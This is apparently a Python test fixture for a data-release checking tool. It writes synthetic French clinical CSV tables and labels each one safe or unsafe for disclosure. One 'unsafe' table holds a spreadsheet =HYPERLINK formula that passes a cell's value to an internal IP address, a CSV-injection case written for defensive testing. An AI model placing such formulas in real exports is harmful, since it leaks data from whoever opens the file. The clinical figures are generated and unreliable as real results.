"""Tables in CSV: rows of persons, tidy regressions, formulas, and what goes beside an earlier file."""

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs26.tools import rows, write_csv


def write(shelf: Shelf) -> None:
    """Writes the cases."""
    _rows_of_persons(shelf)
    _tidy(shelf)
    _formulas(shelf)
    _earlier(shelf)


def _rows_of_persons(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "bronchiolite/grille_semaine.csv",
        "disguise: rows of children sorted by age and told as a grid of severity, without any identifier",
        "every row is one stay",
        "Grille de gravité et durée de l'oxygénothérapie, bronchiolites hospitalisées, pour la figure 2",
        "146 nourrissons hospitalisés pour bronchiolite, hiver 2023-2024",
    )
    chance = shelf.random("bronchiolite")
    head: list[object] = [
        "grille",
        "mois_vie",
        "sexe",
        "terme_SA",
        "spo2_entree",
        "score_wang",
        "oxygene_h",
        "lunettes_hd",
        "sejour_j",
    ]
    table: list[list[object]] = [head]
    for _ in range(146):
        score = chance.randint(3, 11)
        table.append(
            [
                "BCD"[min(score // 4, 2)],
                chance.randint(0, 11),
                chance.choice("FM"),
                chance.choice([34, 36, 37, 38, 39, 39, 40, 40, 41]),
                chance.randint(84, 98),
                score,
                chance.choice([0, 0, 12, 18, 24, 36, 48, 60, 72, 96]),
                chance.choice(["oui", "non", "non"]),
                chance.randint(1, 9),
            ]
        )
    write_csv(path, [head, *sorted(table[1:], key=str)], ";")

    path = shelf.safe(
        "asthme_air/serie_semaine.csv",
        "a row for each week, not for each person",
        "Passages aux urgences pour asthme et qualité de l'air, agrégés par semaine ISO",
        "Près de 10 000 passages aux urgences pour asthme en 2023, enfants de 2 à 15 ans",
    )
    chance = shelf.random("asthme")
    weeks: list[list[object]] = [
        ["semaine_iso", "no2_ug_m3", "pm25_ug_m3", "temp_moy_c", "passages", "dont_hospitalises"]
    ]
    for week in range(1, 53):
        visits = chance.randint(118, 260)
        weeks.append(
            [
                f"2023-S{week:02d}",
                round(chance.uniform(14, 46), 1),
                round(chance.uniform(4, 29), 1),
                round(chance.uniform(2, 24), 1),
                visits,
                int(visits * chance.uniform(0.14, 0.28)),
            ]
        )
    write_csv(path, weeks, ";")


def _tidy(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "als_progression/tidy_models.csv",
        "a model with 6 residual degrees of freedom",
        "line respiratory onset",
        "Linear models of the yearly slope of ALSFRS-R by site of onset (broom output, one line a term)",
        "412 adults with amyotrophic lateral sclerosis followed in a reference centre",
    )
    table = """
onset|term|estimate|std.error|statistic|p.value|conf.low|conf.high|r.squared|df.residual
spinal|(Intercept)|-9.84|0.61|-16.13|<0.001|-11.04|-8.64|0.18|271
spinal|age_per_10y|-0.72|0.21|-3.43|<0.001|-1.13|-0.31|0.18|271
spinal|riluzole|1.31|0.44|2.98|0.003|0.44|2.18|0.18|271
spinal|fvc_per_10pct|0.88|0.15|5.87|<0.001|0.58|1.18|0.18|271
bulbar|(Intercept)|-12.40|1.02|-12.16|<0.001|-14.42|-10.38|0.23|119
bulbar|age_per_10y|-0.95|0.33|-2.88|0.005|-1.60|-0.30|0.23|119
bulbar|riluzole|1.05|0.71|1.48|0.142|-0.36|2.46|0.23|119
bulbar|fvc_per_10pct|1.07|0.24|4.46|<0.001|0.59|1.55|0.23|119
respiratory|(Intercept)|-15.92|4.86|-3.28|0.017|-27.81|-4.03|0.71|6
respiratory|age_per_10y|-1.40|1.58|-0.89|0.410|-5.27|2.47|0.71|6
respiratory|riluzole|0.62|2.90|0.21|0.838|-6.48|7.72|0.71|6
respiratory|fvc_per_10pct|1.66|0.97|1.71|0.138|-0.71|4.03|0.71|6
"""
    write_csv(path, rows(table))

    path = shelf.safe(
        "ms_relapse/tidy_models.csv",
        "degrees of freedom of the model itself, small estimates and p-values",
        "Poisson and linear models of relapses and EDSS by disease-modifying therapy (broom output)",
        "1,093 adults with relapsing multiple sclerosis, 6 centres",
    )
    table = """
outcome|term|estimate|std.error|statistic|p.value|conf.low|conf.high|df|df.residual
relapses|(Intercept)|-0.41|0.09|-4.56|<0.001|-0.59|-0.23|6|1086
relapses|age_per_10y|-0.17|0.04|-4.25|<0.001|-0.25|-0.09|6|1086
relapses|female|0.08|0.07|1.14|0.253|-0.06|0.22|6|1086
relapses|dmt_moderate|-0.38|0.08|-4.75|<0.001|-0.54|-0.22|6|1086
relapses|dmt_high|-0.92|0.11|-8.36|<0.001|-1.14|-0.70|6|1086
relapses|edss_4_5|0.21|0.09|2.33|0.020|0.03|0.39|6|1086
edss_year2|(Intercept)|2.10|0.14|15.00|<0.001|1.83|2.37|5|1021
edss_year2|age_per_10y|0.34|0.05|6.80|<0.001|0.24|0.44|5|1021
edss_year2|dmt_moderate|-0.22|0.10|-2.20|0.028|-0.42|-0.02|5|1021
edss_year2|dmt_high|-0.47|0.12|-3.92|<0.001|-0.70|-0.24|5|1021
edss_year2|centre_random_sd|0.31||||0.18|0.52|5|1021
"""
    write_csv(path, rows(table))


def _formulas(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "had_sorties/motifs_rehospitalisation.csv",
        "a label that a spreadsheet would run as a formula",
        'line =HYPERLINK(...)&"Dyspnée"',
        "Motifs de réhospitalisation à 30 jours après une hospitalisation à domicile",
        "3 906 séjours d'hospitalisation à domicile d'adultes, 3 402 patients",
    )
    table = """
motif|rehospitalisations|delai_median_j|part_pct
Infection sur voie veineuse|61|9|9,5
Altération de l'état général|143|12|22,3
=HYPERLINK("http://10.20.4.7/codes?c="&B2;"Dyspnée")|118|8|18,4
Douleur non contrôlée|97|6|15,1
Plaie : évolution défavorable|88|14|13,7
Chute|49|11|7,6
Autre|86|10|13,4
"""
    write_csv(path, rows(table), ";")

    path = shelf.safe(
        "telesuivi_ic/motifs_alerte.csv",
        "negative numbers and signs at the start of cells, none of them a formula",
        "Motifs d'alerte du télésuivi de l'insuffisance cardiaque et écart à l'année précédente",
        "2 744 patients télésuivis pour insuffisance cardiaque chronique",
    )
    table = """
motif|patients_alertes|ecart_annee_precedente_pct|part_pct|delai_median_reponse_h
Prise de poids ≥ 2 kg en 3 jours|812|-4,1|29,6|3
Dyspnée en hausse|604|-8,8|22,0|2
Tension systolique < 90 mmHg|177|16,2|6,5|1
Fréquence cardiaque > 110/min|231|-12,5|8,4|1
Absence de mesure 7 jours|419|11,3|15,3|26
Œdèmes|288|-7,0|10,5|4
"""
    write_csv(path, rows(table), ";")


def _earlier(shelf: Shelf) -> None:
    first = shelf.path("fragilite_ehpad/sorti_2024-11/prevalence.csv")
    table = """
score_fragilite|residents|denutrition|chute_6_mois|anticholinergique
2-3|312|41|66|88
4|428|77|131|139
5|517|128|204|190
6|389|131|178|151
7-8|266|119|97|94
"""
    write_csv(first, rows(table), ";")
    path = shelf.unsafe(
        "fragilite_ehpad/prevalence_v2.csv",
        "beside the file of November four residents fewer in one line, told by subtraction",
        "score 6: 389 - 385 residents, 131 - 128 with dénutrition",
        "Prévalences par score de fragilité, après retrait des refus de participation reçus depuis la première sortie",
        "1 908 résidents d'EHPAD évalués par l'équipe mobile de gériatrie",
        earlier=["fragilite_ehpad/sorti_2024-11/prevalence.csv"],
    )
    write_csv(path, rows(table.replace("6|389|131|178|151", "6|385|128|176|150")), ";")

    first = shelf.path("oncogeriatrie/sorti_2024-10/g8.csv")
    table = """
groupe_g8|patients|chimiotherapie|toxicite_grade_3_4
<= 10|244|131|72
11-12|301|190|81
13-14|338|243|77
> 14|289|221|49
"""
    write_csv(first, rows(table), ";")
    path = shelf.safe(
        "oncogeriatrie/g8_2024.csv",
        "an earlier file of other years: each difference is large",
        "Toxicités sévères selon le score G8, inclusions de 2024 ; la sortie précédente portait sur 2021-2023",
        "836 patients de 70 ans ou plus évalués en oncogériatrie en 2024",
        earlier=["oncogeriatrie/sorti_2024-10/g8.csv"],
    )
    table = """
groupe_g8|patients|chimiotherapie|toxicite_grade_3_4
<= 10|171|88|43
11-12|208|127|52
13-14|251|176|54
> 14|206|151|31
"""
    write_csv(path, rows(table), ";")
